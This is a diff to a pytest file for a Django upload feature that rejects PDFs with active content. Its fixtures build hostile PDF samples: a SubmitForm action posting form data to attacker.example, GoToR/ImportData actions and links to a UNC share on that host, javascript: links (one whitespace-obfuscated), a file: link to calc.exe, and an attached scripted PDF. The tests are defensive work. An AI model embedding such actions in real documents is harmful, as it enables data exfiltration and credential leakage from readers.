@@ -103,6 +103,27 @@ def _in_document(key, value):
     return change
 
 
+def _attached(name, content):
+    def change(writer):
+        writer.add_attachment(name, content)
+
+    return change
+
+
+def _both(*changes):
+    def change(writer):
+        for each in changes:
+            each(writer)
+
+    return change
+
+
+def _link_to(uri):
+    return _annotation(
+        Subtype=_name("/Link"), A=_dictionary(S=_name("/URI"), URI=TextStringObject(uri))
+    )
+
+
 def handmade_pdf(action, *, compressed=False):
     """A one-page PDF written byte by byte whose fourth object, ``action``, the catalog runs on
     opening; ``compressed``: that object inside a Flate-compressed object stream with a
@@ -319,6 +340,13 @@ def test_a_file_that_is_no_readable_pdf_is_refused_and_nothing_is_kept(
 
 
 SCRIPT = "holds content that runs when the document is opened or clicked: JavaScript."
+ADVICE = (
+    "Ask the partner for a copy without it; a PDF that is not digitally signed can also be "
+    "printed to a new PDF (or the paper scanned) and uploaded."
+)
+# A PDF that runs a script on opening, as a partner's file could carry one inside it.
+SCRIPTED_PDF = pdf_with(_open_with(javascript()))
+UNC = "\\\\attacker.example\\share\\x.pdf"
 ACTIVE = [
     (pdf_with(_open_with(javascript())), SCRIPT),
     (
@@ -369,6 +397,58 @@ ACTIVE = [
     ),
     (handmade_pdf(rb"<< /S /J#61vaScript /J#53 (app.alert\(1\)) >>"), SCRIPT),
     (handmade_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>", compressed=True), SCRIPT),
+    (
+        pdf_with(
+            _both(
+                _attached("annex.pdf", SCRIPTED_PDF),
+                _open_with(
+                    _dictionary(
+                        S=_name("/GoToE"),
+                        T=_dictionary(R=_name("/C"), N=TextStringObject("annex.pdf")),
+                    )
+                ),
+            )
+        ),
+        "an action that opens a document attached to this one (GoToE), an attached file.",
+    ),
+    (
+        pdf_with(_open_with(_dictionary(S=_name("/GoToR"), F=TextStringObject(UNC)))),
+        "an action that opens another file, which can be on a network share (GoToR).",
+    ),
+    (
+        pdf_with(
+            _open_with(
+                _dictionary(
+                    S=_name("/SubmitForm"),
+                    F=_dictionary(
+                        FS=_name("/URL"), F=TextStringObject("https://attacker.example/collect")
+                    ),
+                )
+            )
+        ),
+        "an action that sends the form&#x27;s content to an address (SubmitForm).",
+    ),
+    (
+        pdf_with(_open_with(_dictionary(S=_name("/ImportData"), F=TextStringObject(UNC)))),
+        "an action that reads form data from another file (ImportData).",
+    ),
+    (
+        pdf_with(_link_to("javascript:app.alert(1)")),
+        "a link to a “javascript:” address, not to a web page or an e-mail address.",
+    ),
+    (
+        pdf_with(_link_to(" \tJava\nScript:app.alert(1)")),
+        "a link to a “javascript:” address, not to a web page or an e-mail address.",
+    ),
+    (
+        pdf_with(_link_to("file:///C:/Windows/System32/calc.exe")),
+        "a link to a “file:” address, not to a web page or an e-mail address.",
+    ),
+    (
+        pdf_with(_link_to(UNC)),
+        "a link to an address with no scheme (http, https or mailto), which can be a file or "
+        "a network share.",
+    ),
 ]
 
 
@@ -386,6 +466,14 @@ ACTIVE = [
         "xfa form",
         "names spelled with #-escapes",
         "script in a compressed object stream",
+        "opening an attached pdf that holds a script",
+        "opening a file on a network share",
+        "sending the form elsewhere",
+        "importing form data from a network share",
+        "javascript link",
+        "javascript link with blanks a browser drops",
+        "file link",
+        "network share link",
     ],
 )
 def test_a_pdf_with_content_that_runs_is_refused_saying_why_and_nothing_is_kept(
@@ -400,9 +488,43 @@ def test_a_pdf_with_content_that_runs_is_refused_saying_why_and_nothing_is_kept(
     page = response.content.decode()
     assert "“agreement.pdf” holds content that runs when the document is opened" in page
     assert says in page
-    assert "Print the document to a new PDF (or scan the paper) and upload that." in page
+    assert ADVICE in page
     assert AgreementDocument.objects.count() == 0
     assert AgreementDocument.history.count() == versions_before
+    assert files_under(documents_root) == []
+
+
+@pytest.mark.parametrize(
+    ("content", "says"),
+    [
+        (pdf_with(_attached("annex.pdf", SCRIPTED_PDF)), "an attached file."),
+        (pdf_with(_attached("terms.txt", b"Terms")), "an attached file."),
+        (
+            pdf_with(
+                _annotation(
+                    Subtype=_name("/FileAttachment"),
+                    FS=_dictionary(Type=_name("/Filespec"), F=TextStringObject("annex.exe")),
+                )
+            ),
+            "a file attached to a page (FileAttachment).",
+        ),
+    ],
+    ids=["attached pdf with a script", "attached text", "file attachment annotation"],
+)
+def test_a_pdf_that_carries_files_is_refused_saying_why_and_nothing_is_kept(
+    client, django_user_model, agreement, documents_root, content, says
+):
+    """Attachments are not checked, and a signed agreement has none to carry."""
+    _logged_in(client, django_user_model, EDITORS)
+
+    response = upload(client, agreement, content, name="agreement.pdf")
+
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert f"“agreement.pdf” carries files inside it: {says}" in page
+    assert "A signed agreement has no business carrying attachments" in page
+    assert "Ask the partner for a copy without attachments." in page
+    assert AgreementDocument.objects.count() == 0
     assert files_under(documents_root) == []
 
 
@@ -443,8 +565,8 @@ def test_a_pdf_that_is_a_web_page_first_is_refused_and_nothing_is_kept(
 
 
 def test_a_pdf_with_web_links_and_a_form_field_is_kept(client, django_user_model, agreement):
-    """Only what runs is refused: a link to a web page and a form field without scripts are
-    what signed PDFs often hold."""
+    """Only what runs is refused: links to a web page or an e-mail address and a form field
+    without scripts are what signed PDFs often hold."""
     _logged_in(client, django_user_model, EDITORS)
     field = _dictionary(
         FT=_name("/Tx"), T=TextStringObject("Signatory"), V=TextStringObject("Aiko Tanaka")
@@ -453,7 +575,13 @@ def test_a_pdf_with_web_links_and_a_form_field_is_kept(client, django_user_model
         lambda writer: (
             _annotation(
                 Subtype=_name("/Link"),
-                A=_dictionary(S=_name("/URI"), URI=TextStringObject("https://www.example.ac.jp/")),
+                A=_dictionary(
+                    S=_name("/URI"),
+                    URI=TextStringObject("https://www.example.ac.jp/"),
+                    Next=_dictionary(
+                        S=_name("/URI"), URI=TextStringObject("mailto:intl@example.ac.jp")
+                    ),
+                ),
             )(writer),
             _in_document("/AcroForm", _dictionary(Fields=ArrayObject([field])))(writer),
         )
